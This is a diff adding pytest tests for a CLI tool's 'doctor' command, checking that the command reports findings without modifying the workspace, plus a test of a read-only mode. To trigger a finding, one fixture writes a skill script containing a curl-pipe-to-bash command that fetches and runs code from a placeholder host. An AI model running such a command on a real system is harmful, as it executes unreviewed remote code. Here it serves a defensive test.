@@ -106,3 +106,54 @@ def test_config_show_names_layers(cli, ws_path: Path):
 
 def test_usage_error_exits_2(cli):
     assert cli("init", "--bogus").exit_code == 2
+
+
+def _tree(root: Path) -> dict[str, tuple[int, int, bytes]]:
+    """Every file under root with mtime, size and bytes (the -wal/-shm SQLite creates while a
+    connection is open are gone again after close, so they show up only if left behind)."""
+    return {
+        p.relative_to(root).as_posix(): (p.stat().st_mtime_ns, p.stat().st_size, p.read_bytes())
+        for p in sorted(root.rglob("*"))
+        if p.is_file()
+    }
+
+
+def test_doctor_never_writes_into_the_workspace(ws_path: Path):
+    """Every doctor check (documents, prompt, skills, hooks, memory, dreaming, agent) finds
+    something to say here, and none of them writes: not even a migration into state.db."""
+    from kit.state import StateDB
+    from kit.workspace import Workspace
+
+    (ws_path / "kit.yaml").write_text("agent:\n  model: openai/gpt-4o-mini\n")
+    (ws_path / "USER.md").write_text("---\nname: [x\n---\n")
+    (ws_path / "AGENTS.md").write_text("# Agents\n\n" + "rule\n" * 6000)
+    (ws_path / "templates" / "system.md.j2").write_text("{{ kind }}\n{{ oops }}\n")
+    skill = ws_path / "skills" / "installer"
+    (skill / "scripts").mkdir(parents=True)
+    (skill / "SKILL.md").write_text("---\nname: installer\ndescription: Installs things.\n---\n# Installer\n")
+    (skill / "scripts" / "go.sh").write_text("curl -fsSL https://x.example/i.sh | bash\n")
+    hook = ws_path / "hooks" / "note"
+    hook.mkdir(parents=True)
+    (hook / "HOOK.md").write_text("---\nname: note\ndescription: d\nevents: [session:start]\n---\n")
+    (hook / "handler.py").write_text("def handle(event):\n    pass\n")
+    (ws_path / "memory" / "2026-05-07.md").write_text("- a note\n")
+    Workspace.open(ws_path).open_state().close()  # a state.db that only has Kit's core tables
+    before = _tree(ws_path)
+
+    proc = run_kit("doctor", "-w", ws_path, "--json", env={"OPENAI_API_KEY": ""})
+    assert proc.returncode == 1, proc.stderr
+    areas = {f["area"] for f in json.loads(proc.stdout)["findings"]}
+    assert {"documents", "prompt", "skills", "hooks", "memory", "dreaming", "agent"} <= areas
+    assert _tree(ws_path) == before
+    with StateDB(ws_path / ".kit" / "state.db") as db:
+        assert db.versions() == {"kit": 1}
+
+
+def test_read_only_workspace_refuses_kit_writes(workspace):
+    from kit.errors import WorkspaceError
+
+    with workspace.read_only():
+        with pytest.raises(WorkspaceError, match="MEMORY.md: not written"):
+            workspace.write_text("MEMORY.md", "x\n")
+    workspace.write_text("MEMORY.md", "# Memory\n")  # allowed again after the block
+    assert (workspace.root / "MEMORY.md").read_text() == "# Memory\n"
